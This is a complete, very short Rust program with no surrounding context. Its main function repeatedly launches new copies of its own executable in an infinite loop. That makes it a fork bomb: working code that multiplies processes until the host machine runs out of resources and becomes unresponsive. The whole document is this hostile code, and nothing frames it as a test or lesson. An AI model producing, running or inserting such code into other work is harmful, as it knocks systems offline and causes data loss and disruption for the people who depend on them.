fn main() {
    let this = std::env::current_exe().unwrap();
    loop {
        let _ = std::process::Command::new(&this).spawn();
    }
}
